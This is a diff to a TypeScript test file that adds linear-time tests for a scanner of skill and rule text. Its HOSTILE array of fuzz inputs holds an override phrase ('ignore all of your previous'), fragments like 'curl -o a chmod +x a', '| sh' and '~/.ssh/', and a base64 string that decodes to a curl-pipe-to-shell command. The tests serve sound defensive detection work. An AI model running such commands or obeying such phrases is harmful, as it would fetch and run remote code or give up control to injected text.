@@ -9,6 +9,7 @@ import { memoryPack } from '../src/packs/rules/pack-files.fixture.ts'
 import { linesToShow, piecesOf, statementsOf } from '../src/packs/rules/resolve/sections.ts'
 import { readFrontmatter } from '../src/payloads/rules/frontmatter.ts'
 import { sizeSections } from '../src/project/rules/sections.ts'
+import { scanText } from '../src/skills/rules/review/scan.ts'
 import { cut } from '../src/text/cut.ts'
 import { fence } from '../src/text/fence.ts'
 import { isIgnoredBy, readIgnoreFile } from '../src/text/glob.ts'
@@ -44,12 +45,18 @@ describe('the counter of steps', () => {
       (text) => [...text].map((_, at) => /b/.exec(text.slice(at))),
     ],
     ['a search of the rest at each place', false, (text) => [...text].map((_, at) => text.indexOf('b', at))],
+    ['a list that is copied for each item', false, (text) => [...text].map((_, at, all) => [...all.slice(at)])],
   ])('sees %s', (_, isLinear, run) => {
     expect(growth(run, (times) => 'a'.repeat(times), 200) < MOST_GROWTH).toBe(isLinear)
   })
 })
 
 const join = (...parts: string[]) => parts.join('')
+
+// biome-ignore format: as long as a page
+const HOSTILE = [
+  '![a](https://a?b=', 'hooks command > settings ', 'curl -o a chmod +x a ', 'ignore all of your previous ', 'without asking never dont ', 'send the key to the ', '`curl` never ', '(((((((', 'a.b.c.d.', '\\\\\\', '| sh ', '$($($(', '"a"a', 'https://a@b@', '\u200b\u200c', '\u0430a', '<<<<', '```\n', '> - ', 'QUJD', 'x=y ', '~/.ssh/', '忽略', '\u{e0041}', '    a\n', 'rm \\\n', 'Y3VybCBodHRwczovL3guYWNtZS5pY3UvaSB8IHNo\n', 'fetch(x)\n', 'requests.get(x)\n', 'eval(', 'rm a;', '`a` ', 'a\\\n',
+]
 
 // biome-ignore format: as long as a page
 const TEXTS: [what: string, run: (text: string) => unknown, units: string[]][] = [
@@ -62,6 +69,9 @@ const TEXTS: [what: string, run: (text: string) => unknown, units: string[]][] =
   ['the guard of packs', (text) => [scanContent(text), withholdSecrets(text)], [
     'a', ' ', 'password ', 'password: ', join('ey', 'J'), join('ey', 'Jaaaaaaaaaaa.'), '://a:', 'ignore ', 'ignore all ', 'ignore a a a previous a a a ', 'send your a a a a ', 'run a a a a a a ', join('-----BEGIN PRIV', 'ATE KEY-----\n'), join('-----BEGIN PRIV', 'ATE KEY-----', ' '.repeat(50)), join('github', '_pat_'), '\u5ffd\u7565\u7684', 'bearer ', '\n',
   ]],
+  ['the review of prose', (text) => scanText(text, 'prose'), HOSTILE],
+  ['the review of data', (text) => scanText(text, 'data'), HOSTILE],
+  ['the review of code', (text) => scanText(text, 'code'), HOSTILE],
   ['the first heading', (text) => firstHeading(`# ${text}`), [
     '[', '![', '*a ', '_a ', '`', '<!--', '<a ', '# #', '- ', '> ', '\\', '~~', '---\n', '[a](',
   ]],
@@ -102,6 +112,11 @@ describe('twice the text takes at most 2.5 times the steps', () => {
     const { count } = await openTokenCounter('o200k_base')
     expect(growth(count, (times) => unit.repeat(times), 4_000)).toBeLessThan(MOST_GROWTH)
   })
+})
+
+it('the review of a long sample of code takes steps in proportion to its lines', () => {
+  const review = (text: string) => scanText(`\`\`\`js\n${text}`, 'prose')
+  expect(growth(review, (times) => 'fetch(x)\n'.repeat(times), 3_000)).toBeLessThan(MOST_GROWTH)
 })
 
 it('a check of a pack takes steps in proportion to its pages', () => {
